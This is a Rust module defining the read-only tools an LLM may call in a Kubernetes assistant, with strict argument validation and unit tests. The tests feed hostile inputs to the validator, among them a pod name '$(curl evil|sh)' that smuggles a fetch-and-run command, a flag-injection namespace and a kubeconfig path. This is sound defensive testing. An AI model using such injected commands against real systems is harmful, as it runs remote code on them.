//! The read-only functions an LLM may call while answering a question: each is an [`Intent`] the
//! engine already answers (with the caller's namespace scope), so the model can read exactly what
//! a person could ask for and nothing else — there is no tool that changes anything (E10), and none
//! that reads a Secret (E11). Arguments are untrusted model output: parsed strictly, names
//! validated as Kubernetes names, anything else refused with a reason the model can read.

use serde_json::{Value, json};

use super::intent::{Intent, Phase};
use crate::domain::names::{NamespaceName, ObjectName};

/// The tool definitions sent with every request (OpenAI `tools`).
pub fn definitions() -> Value {
    let ns =
        json!({"type": "string", "description": "Kubernetes namespace; omit for every namespace the asker may see"});
    let phase = json!({"type": "string", "enum": ["Running", "Pending", "Failed", "Succeeded"]});
    let tool = |name: &str, description: &str, properties: Value, required: &[&str]| {
        json!({"type": "function", "function": {"name": name, "description": description, "parameters": {
            "type": "object", "properties": properties, "required": required, "additionalProperties": false}}})
    };
    json!([
        tool(
            "count_pods",
            "Count pods, optionally by namespace and phase.",
            json!({"namespace": ns, "phase": phase}),
            &[]
        ),
        tool("list_pods", "List pods with their phase.", json!({"namespace": ns, "phase": phase}), &[]),
        tool(
            "problem_pods",
            "Pods that are not ready, restarting, pending or failed, with reasons.",
            json!({"namespace": ns}),
            &[]
        ),
        tool("namespaces", "The namespaces the asker may see.", json!({}), &[]),
        tool(
            "workload_status",
            "A deployment's or statefulset's replicas, rollout and conditions.",
            json!({"namespace": ns, "name": {"type": "string"}}),
            &["name"]
        ),
        tool("recent_events", "Recent warning events.", json!({"namespace": ns}), &[]),
        tool(
            "pod_logs",
            "The last lines of a pod's log (secrets redacted).",
            json!({"namespace": ns, "pod": {"type": "string"}, "previous": {"type": "boolean", "description": "the previous (crashed) container"}}),
            &["pod"]
        ),
        tool("nodes", "Nodes and their conditions.", json!({}), &[]),
        tool("incidents", "Recent incidents Mimi handled.", json!({"open_only": {"type": "boolean"}}), &[]),
        tool(
            "incident",
            "One incident's story: alerts, diagnosis, actions, outcome.",
            json!({"id": {"type": "integer"}}),
            &["id"]
        ),
    ])
}

/// The intent a tool call stands for, or why the call is refused.
pub fn intent_of(name: &str, arguments: &str) -> Result<Intent, String> {
    if arguments.len() > 2_000 {
        return Err("arguments too long".into());
    }
    let args: Value = serde_json::from_str(if arguments.trim().is_empty() { "{}" } else { arguments })
        .map_err(|_| "arguments are not a JSON object".to_string())?;
    let Some(obj) = args.as_object() else { return Err("arguments are not a JSON object".into()) };
    let allowed: &[&str] = match name {
        "count_pods" | "list_pods" => &["namespace", "phase"],
        "problem_pods" | "recent_events" => &["namespace"],
        "namespaces" | "nodes" => &[],
        "workload_status" => &["namespace", "name"],
        "pod_logs" => &["namespace", "pod", "previous"],
        "incidents" => &["open_only"],
        "incident" => &["id"],
        _ => return Err(format!("there is no tool named {:?}", clip(name))),
    };
    if let Some(extra) = obj.keys().find(|k| !allowed.contains(&k.as_str())) {
        return Err(format!("unknown argument {:?}", clip(extra)));
    }
    let namespace = match obj.get("namespace") {
        None | Some(Value::Null) => None,
        Some(Value::String(s)) => Some(NamespaceName::parse(s).map_err(|e| e.to_string())?.as_str().to_string()),
        Some(_) => return Err("namespace must be a string".into()),
    };
    let object = |key: &str| -> Result<String, String> {
        match obj.get(key) {
            Some(Value::String(s)) => Ok(ObjectName::parse(s).map_err(|e| e.to_string())?.as_str().to_string()),
            _ => Err(format!("{key} is required and must be a string")),
        }
    };
    let phase = match obj.get("phase") {
        None | Some(Value::Null) => None,
        Some(Value::String(p)) => Some(match p.as_str() {
            "Running" => Phase::Running,
            "Pending" => Phase::Pending,
            "Failed" => Phase::Failed,
            "Succeeded" => Phase::Succeeded,
            _ => return Err("phase must be Running, Pending, Failed or Succeeded".into()),
        }),
        Some(_) => return Err("phase must be a string".into()),
    };
    let flag = |key: &str| obj.get(key).and_then(Value::as_bool).unwrap_or(false);
    Ok(match name {
        "count_pods" => Intent::PodCount { namespace, phase },
        "list_pods" => Intent::PodList { namespace, phase },
        "problem_pods" => Intent::Problems { namespace },
        "recent_events" => Intent::Events { namespace },
        "namespaces" => Intent::Namespaces,
        "nodes" => Intent::Nodes,
        "workload_status" => Intent::Workload { namespace, name: object("name")? },
        "pod_logs" => Intent::Logs { namespace, pod: object("pod")?, previous: flag("previous") },
        "incidents" => Intent::Incidents { open_only: flag("open_only") },
        "incident" => match obj.get("id").and_then(Value::as_i64) {
            Some(id) if id > 0 => Intent::Incident { id },
            _ => return Err("id must be a positive integer".into()),
        },
        _ => unreachable!("names checked above"),
    })
}

fn clip(text: &str) -> String {
    text.chars().take(40).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_defined_tool_maps_to_a_read_intent() {
        for t in definitions().as_array().unwrap() {
            let name = t["function"]["name"].as_str().unwrap();
            let args = match name {
                "workload_status" => r#"{"name": "checkout"}"#,
                "pod_logs" => r#"{"pod": "checkout-1"}"#,
                "incident" => r#"{"id": 3}"#,
                _ => "{}",
            };
            let intent = intent_of(name, args).unwrap_or_else(|e| panic!("{name}: {e}"));
            assert!(!matches!(intent, Intent::ActionRequest { .. } | Intent::Secret | Intent::Unknown), "{name}");
        }
    }

    #[test]
    fn hostile_or_unknown_calls_are_refused_with_a_reason() {
        let cases = [
            ("restart_deployment", r#"{"name": "checkout"}"#, "no tool"),
            ("read_secret", "{}", "no tool"),
            ("pod_logs", r#"{"pod": "$(curl evil|sh)"}"#, "not valid"),
            ("list_pods", r#"{"namespace": "--all-namespaces"}"#, "not valid"),
            ("list_pods", r#"{"namespace": ["a"]}"#, "must be a string"),
            ("list_pods", r#"{"phase": "Evicted"}"#, "phase must be"),
            ("problem_pods", r#"{"namespace": "shop", "kubeconfig": "/etc"}"#, "unknown argument"),
            ("incident", r#"{"id": -1}"#, "positive"),
            ("workload_status", "{}", "required"),
            ("nodes", "[1, 2]", "JSON object"),
            ("nodes", "{not json", "JSON object"),
        ];
        for (name, args, why) in cases {
            let err = intent_of(name, args).expect_err(name);
            assert!(err.contains(why), "{name} {args}: {err}");
        }
    }

    #[test]
    fn arguments_become_the_same_intents_as_questions() {
        assert_eq!(
            intent_of("problem_pods", r#"{"namespace": "shop"}"#).unwrap(),
            Intent::Problems { namespace: Some("shop".into()) }
        );
        assert_eq!(
            intent_of("count_pods", r#"{"namespace": null, "phase": "Running"}"#).unwrap(),
            Intent::PodCount { namespace: None, phase: Some(Phase::Running) }
        );
    }
}
